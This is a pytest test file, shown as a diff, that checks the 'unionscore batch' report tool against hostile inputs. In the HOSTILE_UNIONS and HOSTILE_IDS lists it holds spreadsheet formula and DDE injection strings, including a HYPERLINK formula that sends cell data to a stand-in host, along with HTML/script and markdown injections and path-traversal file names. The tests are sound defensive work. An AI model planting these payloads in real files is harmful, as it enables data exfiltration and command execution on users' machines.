@@ -1,0 +1,497 @@
+"""`unionscore batch` outputs a county can trust: each test feeds the input a tester found harmful.
+
+The module tries 74 hostile inputs: 19 output folders (the source itself, folders holding a
+source, foreign files where outputs go, a marker naming other files, an older unionscore's
+folder), 16 unions with formulas, links, HTML, a long id or ids differing in case (one batch),
+3 CSV cells, 21 ids for file names, a stem collision, a umask, 4 unions that run too long or
+hang their worker, a killed and a terminated batch, a worker lost between two chunks, a second
+batch into a busy folder, 2 full disks and 3 folders that cannot be written.
+"""
+from __future__ import annotations
+
+import csv
+import errno
+import fcntl
+import json
+import os
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+import engine.batch.workers
+from cli import cli
+from engine.batch.manifest import LOCK, MARKER
+from engine.batch.workers import Chunk, Pool
+from engine.facts.sources import OUTPUT_MARKER, Unit
+from engine.load.rulesets import resolve_rulesets
+from engine.report.summary_workbook import csv_value
+from engine.report.union_page import union_file_stem
+
+ROOT = Path(__file__).resolve().parents[2]
+COUNTY = ROOT / "facts" / "qingshan"
+SAFE_STEM = re.compile(r"[A-Za-z0-9_~-]{1,64}")
+WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"{p}{n}" for p in ("COM", "LPT") for n in range(10))}
+
+
+def run(*args: str):
+    return CliRunner().invoke(cli, ["batch", *args], catch_exceptions=False)
+
+
+def bayou(source: Path | str, out: Path, *more: str):
+    return run(str(source), "--out", str(out), "--ruleset", "bayou", "--jobs", "1", *more)
+
+
+@pytest.fixture
+def sample(tmp_path: Path) -> Path:
+    """Three example unions in a folder."""
+    folder = tmp_path / "facts"
+    folder.mkdir()
+    for name in ("QS-001.yaml", "QS-002.yaml", "QS-003.yaml"):
+        shutil.copy(COUNTY / name, folder)
+    return folder
+
+
+def hostile_fact(folder: Path, number: int, **union: str) -> None:
+    """QS-001's facts under another id, name or township (JSON strings are YAML double-quoted scalars)."""
+    text = (COUNTY / "QS-001.yaml").read_text(encoding="utf-8")
+    for key, value in union.items():
+        text = re.sub(rf"^  {key}: .*$", lambda _, k=key, v=value: f"  {k}: {json.dumps(v, ensure_ascii=False)}", text, count=1, flags=re.M)
+    (folder / f"U{number:02d}.yaml").write_text(text, encoding="utf-8")
+
+
+def our_files(out: Path) -> set[str]:
+    return {str(p.relative_to(out)) for p in out.rglob("*")}
+
+
+# --- 1. --out never harms the sources or files unionscore did not write -----------------------------
+
+def test_out_equal_to_the_source_is_refused_and_force_deletes_nothing(sample):
+    before = our_files(sample)
+    result = bayou(sample, sample, "--force")
+    assert result.exit_code == 2
+    assert f"输出目录 {sample} 与来源 {sample} 相同或包含该来源" in result.stderr
+    assert our_files(sample) == before
+
+
+@pytest.mark.parametrize("where", ["source folder inside out", "source file inside out", "out a link to the source"])
+def test_out_holding_a_source_is_refused(tmp_path, sample, where):
+    out = tmp_path / "out"
+    if where == "out a link to the source":
+        out.symlink_to(sample)
+        source = sample
+    else:
+        out.mkdir()
+        source = out / "facts"
+        shutil.copytree(sample, source)
+        if where == "source file inside out":
+            source = source / "QS-001.yaml"
+    result = bayou(source, out, "--force")
+    assert result.exit_code == 2
+    assert "相同或包含该来源；请另选一个输出目录，以免覆盖或删除原始数据" in result.stderr
+    assert (sample / "QS-001.yaml").is_file() and not (out / MARKER).exists()
+
+
+def test_an_output_folder_inside_the_source_folder_is_never_read_as_a_source(sample):
+    out = sample / "out"
+    assert bayou(sample, out).exit_code == 0
+    (out / "copied").mkdir()
+    shutil.copy(sample / "QS-001.yaml", out / "copied")  # read, it would be a duplicate QS-001
+    again = bayou(sample, out)
+    assert again.exit_code == 0, again.stderr
+    assert again.stdout.splitlines()[-1] == "已评估 3 个工会，失败 0 个。"
+    assert MARKER == OUTPUT_MARKER
+
+
+@pytest.mark.parametrize("name", ["summary.csv", "report.html", "results.jsonl", "unions/QS-001.html", "unions/老报告.md"])
+def test_force_never_overwrites_a_file_it_did_not_write(tmp_path, sample, name):
+    out = tmp_path / "out"
+    (out / "unions").mkdir(parents=True)
+    (out / name).write_text("县里自己的文件", encoding="utf-8")
+    result = bayou(sample, out, "--force")
+    assert result.exit_code == 2
+    assert f"输出目录 {out} 中已有不是 unionscore 写入的 {name}，不会覆盖或删除" in result.stderr
+    assert (out / name).read_text(encoding="utf-8") == "县里自己的文件"
+    assert not (out / MARKER).exists()
+
+
+@pytest.mark.parametrize("unions", ["a file", "a link"])
+def test_a_unions_entry_that_is_not_our_folder_is_refused(tmp_path, sample, unions):
+    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
+    out.mkdir()
+    elsewhere.mkdir()
+    if unions == "a file":
+        (out / "unions").write_text("不是目录", encoding="utf-8")
+    else:
+        (out / "unions").symlink_to(elsewhere)
+    result = bayou(sample, out, "--force")
+    assert result.exit_code == 2 and "不是 unionscore 写入的 unions，" in result.stderr
+    assert not any(elsewhere.iterdir())
+
+
+def test_force_removes_only_the_files_unionscore_wrote(tmp_path, sample):
+    out = tmp_path / "out"
+    (out / "unions").mkdir(parents=True)
+    (out / "notes.txt").write_text("不要动我", encoding="utf-8")
+    (out / "unions" / "说明.txt").write_text("也不要动我", encoding="utf-8")
+    assert bayou(sample, out, "--force").exit_code == 0
+    (sample / "QS-003.yaml").unlink()
+    assert bayou(sample, out).exit_code == 0
+    assert (out / "notes.txt").read_text(encoding="utf-8") == "不要动我"
+    assert (out / "unions" / "说明.txt").read_text(encoding="utf-8") == "也不要动我"
+    assert not (out / "unions" / "QS-003.html").exists() and (out / "unions" / "QS-002.html").exists()
+    marker = (out / MARKER).read_text(encoding="utf-8").splitlines()
+    assert "unions/QS-002.md" in marker and "notes.txt" not in marker and marker[-1] == "# 状态：完成"
+
+
+def test_a_marker_naming_other_files_removes_nothing_else(tmp_path, sample):
+    out, victim = tmp_path / "out", tmp_path / "victim.txt"
+    out.mkdir()
+    victim.write_text("外面的文件", encoding="utf-8")
+    (out / "notes.txt").write_text("里面的文件", encoding="utf-8")
+    names = ["../victim.txt", str(victim), "notes.txt", "unions/../../victim.txt", "unions/../notes.txt"]
+    (out / MARKER).write_text("\n".join(names) + "\n", encoding="utf-8")
+    assert bayou(sample, out).exit_code == 0
+    assert victim.is_file() and (out / "notes.txt").is_file()
+
+
+def test_a_folder_written_before_the_list_of_files_is_taken_over(tmp_path, sample):
+    out = tmp_path / "out"
+    (out / "unions").mkdir(parents=True)
+    (out / MARKER).write_text("unionscore batch output\n", encoding="utf-8")
+    for name in ("summary.csv", "report.html", "unions/QS-009.html", "unions/QS-009.md"):
+        (out / name).write_text("旧版输出", encoding="utf-8")
+    assert bayou(sample, out).exit_code == 0
+    assert not (out / "unions" / "QS-009.html").exists()
+    assert "旧版输出" not in (out / "summary.csv").read_text(encoding="utf-8-sig")
+
+
+# --- 2. Text from fact files stays text: no formulas, links or HTML in what people open ------------
+
+LONG_ID = "青山县城关街道第一中学教职工工会委员会联合会第一分会"  # 26 characters: its page name used to pass 255 bytes
+HOSTILE_UNIONS = [
+    {"id": "=1+2", "name": '=HYPERLINK("http://x.example/?"&A1,"点击")'},
+    {"id": "H-02", "name": "+cmd|' /C calc'!A0"},
+    {"id": "H-03", "name": "-2+3"},
+    {"id": "H-04", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+    {"id": "H-05", "name": "\t=1+1"},
+    {"id": "H-06", "name": "\r=1+1"},
+    {"id": "H-07", "name": "http://evil.example/"},
+    {"id": "H-08", "name": '<img src="http://x.example/a.png">'},
+    {"id": "H-09", "name": "![图](http://x.example/a.png)"},
+    {"id": "H-10", "name": "[点击领取](http://x.example/)"},
+    {"id": "H-11", "name": "<script>alert(1)</script>", "township": "<b>镇</b>"},
+    {"id": "H-12", "name": "甲\n# 假标题\n<img src=x>"},
+    {"id": "H-13", "name": "a | b ` c & d"},
+    {"id": LONG_ID},
+    {"id": "qs-001"},
+    {"id": "QS-001"},
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory) -> Path:
+    """One batch over every union of HOSTILE_UNIONS, with --jobs 2."""
+    folder = tmp_path_factory.mktemp("hostile")
+    (folder / "facts").mkdir()
+    for number, union in enumerate(HOSTILE_UNIONS):
+        hostile_fact(folder / "facts", number, **union)
+    result = run(str(folder / "facts"), "--out", str(folder / "out"), "--ruleset", "bayou", "--jobs", "2")
+    assert result.exit_code == 0, result.stderr
+    return folder / "out"
+
+
+def test_text_cells_stay_text_in_summary_xlsx(hostile):
+    with zipfile.ZipFile(hostile / "summary.xlsx") as book:
+        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
+    assert sheets and not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
+    cells = {cell.value: cell.data_type for row in openpyxl.load_workbook(hostile / "summary.xlsx").worksheets[0].iter_rows() for cell in row}
+    assert cells["=1+2"] == "s" and cells['=HYPERLINK("http://x.example/?"&A1,"点击")'] == "s"
+    assert cells["http://evil.example/"] == "s"
+
+
+def test_summary_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile):
+    with (hostile / "summary.csv").open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    names = {row["编号"]: row["名称"] for row in rows}
+    assert names["'=1+2"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"
+    assert names["H-02"] == "'+cmd|' /C calc'!A0" and names["H-03"] == "'-2+3" and names["H-04"].startswith("'@")
+    assert names["H-05"].startswith(("'\t", "'=")) and names["H-06"].startswith(("'\r", "'="))
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize(("value", "cell"), [(-2, "-2"), (-2.5, "-2.5"), ("-2", "'-2")])
+def test_numbers_stay_numbers_in_summary_csv(value, cell):
+    assert csv_value(value) == cell
+
+
+def test_markdown_pages_show_names_as_written_never_as_html_links_or_images(hostile):
+    pages = {p.name: p.read_text(encoding="utf-8") for p in (hostile / "unions").glob("*.md")}
+    assert len(pages) == len(HOSTILE_UNIONS)
+    for name, page in pages.items():
+        unescaped = re.sub(r"\\.", "", page)  # what is left once every backslash escape is taken out
+        assert not re.search(r"[<\[\]`&]", unescaped), name
+        assert "\n# 假标题" not in page
+    page = pages[f"{union_file_stem('H-09')}.md"]
+    assert page.startswith("# !\\[图\\](http://x.example/a.png) 考核评价报告\n")
+    assert "\\<b\\>镇\\</b\\>" in pages[f"{union_file_stem('H-11')}.md"]
+
+
+# --- 3. File names: short, safe and distinct for any id ---------------------------------------------
+
+def test_long_and_case_only_different_ids_get_their_own_pages(hostile):
+    stems = {p.stem for p in (hostile / "unions").iterdir()}
+    assert len(stems) == len(HOSTILE_UNIONS) and len({s.casefold() for s in stems}) == len(stems)
+    assert "QS-001" in stems and union_file_stem("qs-001") in stems and union_file_stem(LONG_ID) in stems
+    assert all(SAFE_STEM.fullmatch(stem) for stem in stems)
+    assert f'href="unions/{union_file_stem(LONG_ID)}.html"' in (hostile / "report.html").read_text(encoding="utf-8")
+
+
+HOSTILE_IDS = ["../../etc/passwd", "a/b", "a\\b", "CON", "con", "COM1", "LPT9", "NUL", "aux.txt", "a:b", "a*b?<>|\"",
+               "a\x00b", "a\x1fb\x7f", ".hidden", "-rf", "", " ", "名" * 200, "X" * 300, "qs-001", "Qs-001"]
+
+
+def test_any_id_gets_a_short_safe_stem_of_its_own():
+    stems = [union_file_stem(union_id) for union_id in HOSTILE_IDS]
+    assert all(SAFE_STEM.fullmatch(stem) and stem.upper() not in WINDOWS_RESERVED for stem in stems), stems
+    assert len({stem.casefold() for stem in stems}) == len(HOSTILE_IDS)
+    assert stems == [union_file_stem(union_id) for union_id in HOSTILE_IDS]  # the id alone decides
+    assert union_file_stem("QS-001") == "QS-001"
+
+
+def test_two_ids_with_the_same_stem_never_share_a_page(sample, tmp_path, monkeypatch):
+    monkeypatch.setattr("engine.batch.run.union_file_stem", lambda union_id: "SAME")
+    result = bayou(sample, tmp_path / "out")
+    assert result.exit_code == 1
+    assert "QS-002.yaml: 工会编号 “QS-002” 与 “QS-001” 的报告文件名相同，本单位未计入" in result.stderr
+
+
+# --- 4. Permissions follow the umask ----------------------------------------------------------------
+
+def test_outputs_follow_the_umask(sample, tmp_path):
+    previous = os.umask(0o027)
+    try:
+        assert bayou(sample, tmp_path / "out").exit_code == 0
+    finally:
+        os.umask(previous)
+    modes = {str(p): p.stat().st_mode & 0o777 for p in (tmp_path / "out").rglob("*") if p.is_file()}
+    assert len(modes) == 4 + 2 * 3 + 2 and set(modes.values()) == {0o640}, modes
+
+
+# --- 5. A batch that always ends ----------------------------------------------------------------------
+
+def test_a_union_that_runs_too_long_is_stopped_and_reported(sample, tmp_path, monkeypatch):
+    real = engine.batch.workers.assess
+
+    def endless(rulesets, facts, *args):
+        while facts.union["id"] == "QS-002":
+            pass
+        return real(rulesets, facts, *args)
+
+    monkeypatch.setattr(engine.batch.workers, "assess", endless)
+    result = bayou(sample, tmp_path / "out", "--timeout", "1")
+    assert result.exit_code == 1
+    assert result.stdout.splitlines()[-1] == "已评估 2 个工会，失败 1 个。"
+    assert "QS-002.yaml: 评估此工会超过 1 秒仍未完成，已停止（时限由 --timeout 设定），其余工会不受影响" in result.stderr
+
+
+def stop_self(rulesets, facts, *args):
+    os.kill(os.getpid(), signal.SIGSTOP)
+
+
+def stuck_in_c(rulesets, facts, *args):
+    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})  # as C code that never returns to Python
+    time.sleep(3600)
+
+
+@pytest.mark.parametrize("hang", [stop_self, stuck_in_c])
+def test_a_worker_that_stops_answering_is_killed_and_the_batch_goes_on(sample, tmp_path, monkeypatch, hang):
+    real = engine.batch.workers.assess
+
+    def hanging(rulesets, facts, *args):
+        return hang(rulesets, facts) if facts.union["id"] == "QS-002" else real(rulesets, facts, *args)
+
+    monkeypatch.setattr(engine.batch.workers, "assess", hanging)
+    started = time.monotonic()
+    result = bayou(sample, tmp_path / "out", "--timeout", "1")
+    assert result.exit_code == 1
+    assert result.stdout.splitlines()[-1] == "已评估 2 个工会，失败 1 个。"
+    assert "QS-002.yaml: 评估此工会超过 1 秒，工作进程无响应，已终止（时限由 --timeout 设定）" in result.stderr
+    assert time.monotonic() - started < 30
+
+
+def test_a_union_hanging_a_worker_in_a_later_chunk_is_found(tmp_path, monkeypatch):
+    folder = tmp_path / "facts"
+    folder.mkdir()
+    for path in sorted(COUNTY.glob("QS-0*.yaml"))[:20]:
+        shutil.copy(path, folder)
+    real = engine.batch.workers.assess
+
+    def hanging(rulesets, facts, *args):
+        return stop_self(rulesets, facts) if facts.union["id"] == "QS-018" else real(rulesets, facts, *args)
+
+    monkeypatch.setattr(engine.batch.workers, "assess", hanging)
+    result = run(str(folder), "--out", str(tmp_path / "out"), "--ruleset", "bayou", "--jobs", "2", "--timeout", "1")
+    assert result.exit_code == 1
+    assert result.stdout.splitlines()[-1] == "已评估 19 个工会，失败 1 个。"
+    assert "QS-018.yaml: 评估此工会超过 1 秒，工作进程无响应" in result.stderr
+
+
+STUCK = """
+import os, sys, time
+import engine.batch.workers as workers
+real = workers.assess
+def stuck(rulesets, facts, *args):
+    if facts.union["id"] == "QS-002":
+        with open(sys.argv[1] + ".part", "w") as handle:
+            handle.write(str(os.getpid()))
+        os.rename(sys.argv[1] + ".part", sys.argv[1])
+        time.sleep(600)
+    return real(rulesets, facts, *args)
+workers.assess = stuck
+from cli import cli
+cli(sys.argv[2:], prog_name="unionscore")
+"""
+
+
+def gone(pid: int) -> bool:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] in "ZX"
+    except (FileNotFoundError, ProcessLookupError):
+        return True
+
+
+def stuck_batch(sample: Path, out: Path, pid_file: Path) -> tuple[subprocess.Popen, int]:
+    """A batch in its own process whose worker is stuck on QS-002, and that worker's pid."""
+    command = [sys.executable, "-c", STUCK, str(pid_file), "batch", str(sample), "--out", str(out), "--ruleset", "bayou", "--jobs", "1"]
+    batch = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    while not pid_file.exists():
+        assert time.monotonic() < deadline and batch.poll() is None, batch.communicate()
+        time.sleep(0.05)
+    return batch, int(pid_file.read_text())
+
+
+@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
+def test_workers_die_with_a_killed_batch(sample, tmp_path):
+    batch, worker = stuck_batch(sample, tmp_path / "out", tmp_path / "worker.pid")
+    batch.kill()
+    batch.communicate()
+    deadline = time.monotonic() + 10
+    while not gone(worker):
+        assert time.monotonic() < deadline, "the worker outlived its batch"
+        time.sleep(0.05)
+
+
+def test_a_terminated_batch_ends_its_workers_and_leaves_nothing_that_looks_complete(sample, tmp_path):
+    out = tmp_path / "out"
+    batch, worker = stuck_batch(sample, out, tmp_path / "worker.pid")
+    batch.terminate()
+    assert batch.wait(timeout=30) == 1
+    assert batch.stderr is not None and batch.stderr.read().endswith("错误：批量评估未完成：运行被中断（Ctrl-C 或 SIGTERM）；"
+                                                                      "本次写入的文件已删除，输出目录中的 .unionscore-output 记下了这次失败。\n")
+    assert gone(worker)
+    assert our_files(out) == {MARKER, LOCK}
+    assert "# 状态：未完成（运行被中断" in (out / MARKER).read_text(encoding="utf-8")
+
+
+def test_a_worker_lost_between_two_chunks_is_replaced(sample, tmp_path):
+    pool = Pool(1, resolve_rulesets(["bayou"]), None, tmp_path, 60)
+    chunk = Chunk(0, [Unit(str(sample / "QS-001.yaml"), path=str(sample / "QS-001.yaml"))])
+    try:
+        assert not pool.result(pool.submit(chunk))[0].errors
+        os.kill(pool.watch.pids()[0], signal.SIGKILL)  # as the out-of-memory killer does
+        deadline = time.monotonic() + 10
+        while not pool.executor._broken:  # until the pool knows (a private attribute: a test may look)
+            assert time.monotonic() < deadline
+            time.sleep(0.05)
+        assert not pool.result(pool.submit(chunk))[0].errors
+    finally:
+        pool.close()
+
+
+# --- 6. One batch at a time per output folder ---------------------------------------------------------
+
+def test_a_second_batch_into_the_same_folder_is_refused(sample, tmp_path):
+    out = tmp_path / "out"
+    assert bayou(sample, out).exit_code == 0
+    report = (out / "report.html").read_bytes()
+    handle = os.open(out / LOCK, os.O_RDWR)
+    try:
+        fcntl.flock(handle, fcntl.LOCK_EX)  # the first batch, still running
+        result = bayou(sample, out)
+    finally:
+        os.close(handle)
+    assert result.exit_code == 1
+    assert result.stderr == f"错误：输出目录 {out} 正被另一个 unionscore batch 使用；请等它结束后再运行，或另选输出目录\n"
+    assert (out / "report.html").read_bytes() == report
+
+
+# --- 7. A batch that cannot finish says why and leaves nothing that looks complete ------------------------
+
+def no_space(*args, **kwargs):
+    raise OSError(errno.ENOSPC, "No space left on device", str(args[0]))
+
+
+@pytest.mark.parametrize("write", ["engine.batch.run.write_county_report", "engine.batch.workers.write_pages"])
+def test_a_full_disk_is_named_and_the_half_written_outputs_are_removed(sample, tmp_path, monkeypatch, write):
+    out = tmp_path / "out"
+    assert bayou(sample, out).exit_code == 0
+    monkeypatch.setattr(write, no_space)
+    result = bayou(sample, out)
+    assert result.exit_code == 1
+    assert result.stderr.startswith("错误：批量评估未完成：磁盘空间已满：")
+    assert "本次写入的文件已删除" in result.stderr and "内部错误" not in result.stderr
+    assert our_files(out) == {MARKER, LOCK}
+    assert "# 状态：未完成（磁盘空间已满" in (out / MARKER).read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(("code", "cause"), [(errno.EROFS, "文件系统是只读的"), (errno.EACCES, "没有写入权限")])
+def test_a_folder_that_cannot_be_written_is_named(sample, tmp_path, monkeypatch, code, cause):
+    out = tmp_path / "out"
+
+    def refused(folder):
+        raise OSError(code, os.strerror(code), str(folder / LOCK))
+
+    monkeypatch.setattr("engine.batch.output_folder.lock", refused)
+    result = bayou(sample, out)
+    assert result.exit_code == 1
+    assert result.stderr == f"错误：批量评估未完成：{cause}：{out / LOCK}。\n"
+
+
+def writes_into_read_only_folders(tmp_path: Path) -> bool:
+    """Root (with CAP_DAC_OVERRIDE) ignores folder modes: then the test above stands in for the next one."""
+    probe = tmp_path / "probe"
+    probe.mkdir(mode=0o555)
+    try:
+        (probe / "x").touch()
+    except PermissionError:
+        return False
+    finally:
+        probe.chmod(0o755)
+    return True
+
+
+def test_a_read_only_folder_keeps_the_previous_outputs(sample, tmp_path):
+    if writes_into_read_only_folders(tmp_path):
+        pytest.skip("this user writes into read-only folders (root)")
+    out = tmp_path / "out"
+    assert bayou(sample, out).exit_code == 0
+    before = {name: (out / name).read_bytes() for name in our_files(out) if (out / name).is_file()}
+    for folder in (out, out / "unions"):
+        folder.chmod(0o555)
+    try:
+        result = bayou(sample, out)
+    finally:
+        for folder in (out, out / "unions"):
+            folder.chmod(0o755)
+    assert result.exit_code == 1 and "批量评估未完成：没有写入权限：" in result.stderr
+    assert {name: (out / name).read_bytes() for name in before} == before
